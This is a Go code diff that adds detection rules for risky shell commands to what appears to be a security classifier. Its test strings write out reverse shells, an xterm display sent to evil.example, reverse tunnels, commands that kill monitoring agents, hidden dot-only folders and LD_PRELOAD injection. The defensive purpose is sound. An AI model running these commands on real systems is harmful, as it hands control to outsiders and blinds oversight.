@@ -100,4 +100,63 @@ var controlRules = []Rule{
 		Match:    []string{"chmod 666 /var/run/docker.sock"},
 		NotMatch: []string{"ls /var/run/docker.sock"},
 	},
+	{
+		ID: "reverse-shell", Text: "Lets whoever is at the other end type commands on this machine.",
+		Risk: effect.Critical, Dimension: effect.Control, Technique: "T1059", Programs: "websocat",
+		Words:    `(?i)\b(exec|cmd|sh-c):`,
+		Match:    []string{"websocat ws://10.0.0.1/ exec:/bin/sh", "websocat ws-l:0.0.0.0:9 cmd:bash"},
+		NotMatch: []string{"websocat ws://127.0.0.1/"},
+	},
+	{
+		ID: "reverse-shell", Text: "Opens a terminal of this machine on the screen of another one.",
+		Risk: effect.Critical, Dimension: effect.Control, Technique: "T1021", Programs: terminals,
+		Words:    `\s--?display[= ]+\w[^\s:/]*:\d`,
+		Match:    []string{"xterm -display 10.0.0.1:1", "xterm -bg black -display evil.example:0"},
+		NotMatch: []string{"xterm -display :0", "xterm -e top"},
+	},
+	{
+		ID: "reverse-shell", Text: "Opens a terminal of this machine on the screen of another one.",
+		Risk: effect.Critical, Dimension: effect.Control, Technique: "T1021", Programs: terminals,
+		Env:      `^DISPLAY=\w[^:/]*:\d`,
+		Match:    []string{"DISPLAY=10.0.0.1:0 xterm"},
+		NotMatch: []string{"DISPLAY=:0 xterm"},
+	},
+	{
+		ID: "tunnel-back", Text: "Lets others reach this machine through a tunnel that it opens itself.",
+		Risk: effect.High, Dimension: effect.Control, Technique: "T1572", Programs: "chisel autossh frpc ligolo agent ngrok cloudflared rathole gost revsocks",
+		Words:    `^chisel\s+client\s(.*\s)?R:|^autossh\s(.*\s)?-\w*R|^(ligolo|agent)\s.*-connect|^(frpc|revsocks|rathole|gost)\s|^ngrok\s+(tcp|http|tls)|^cloudflared\s(.*\s)?tunnel`,
+		Match:    []string{"chisel client 10.0.0.1:80 R:socks", "./chisel client --auth a:b 10.0.0.1 R:2222:localhost:22", "autossh -M 0 -R 2222:localhost:22 u@h", "ngrok tcp 22"},
+		NotMatch: []string{"chisel --help", "autossh -L 1:h:2 h"},
+	},
+	{
+		ID: "hidden-folder", Text: "Uses a name of dots only, which lists leave out or show as nothing.",
+		Risk: effect.High, Dimension: effect.Hiding, Technique: "T1564.001", Programs: "mkdir cp mv ln touch install tar unzip cd",
+		Words:    `\s(/tmp|/var/\w+|/dev/shm|/etc|/usr(/\w+)*|/opt|/home/[^\s/]+|/root)/(\.{3,}|\.\. )(\s|/|$)`,
+		Match:    []string{"mkdir /tmp/...", "cp x /dev/shm/.../y", "mv x '/var/tmp/.. /y'"},
+		NotMatch: []string{"mkdir /tmp/.x", "go test ./...", "cp x ../y"},
+	},
+	{
+		ID: "guard-killed", Text: "Ends a program that watches over this machine.",
+		Risk: effect.High, Dimension: effect.Hiding, Technique: "T1562.001", Programs: "kill pkill killall xargs",
+		Typed:    `(?i)(auditd|osquery|falco\b|falcon|wazuh|ossec|crowdstrike|sysdig|sentinel|carbonblack|cbagent|cbdaemon|mdatp|wdavdaemon|clamd|sysmon|filebeat|auditbeat|rsyslogd|syslog-ng|snort|suricata|fail2ban)`,
+		Match:    []string{"kill -9 $(pidof osqueryd)", "pkill -f falcon-sensor", "kill $(pgrep auditd)"},
+		NotMatch: []string{"kill $(pidof nginx)", "pkill firefox"},
+	},
+	{
+		ID: "code-injected", Text: "Makes a familiar name start another program.",
+		Risk: effect.High, Dimension: effect.Control, Technique: "T1574", Programs: "hash",
+		Words:    `^hash\s(.*\s)?-\w*p`,
+		Match:    []string{"hash -p /tmp/x ls", "hash -p /bin/rm cat"},
+		NotMatch: []string{"hash -r", "hash", "hash -t ls"},
+	},
+	{
+		ID: "code-injected", Text: "Loads other code into the program, so that it may do anything.",
+		Risk: effect.High, Dimension: effect.Control, Technique: "T1574.006", Programs: "env",
+		Words:    `\s(LD_PRELOAD|LD_LIBRARY_PATH|LD_AUDIT|BASH_ENV|PERL5OPT|PYTHONSTARTUP|NODE_OPTIONS|GIT_SSH_COMMAND)=`,
+		Match:    []string{"env LD_PRELOAD=/tmp/x.so id", "sudo env LD_PRELOAD=/tmp/x.so id"},
+		NotMatch: []string{"env LANG=C ls", "env"},
+	},
 }
+
+// terminals show a shell in a window.
+const terminals = "xterm rxvt urxvt gnome-terminal konsole xfce4-terminal lxterminal aterm eterm st alacritty kitty mate-terminal terminator"
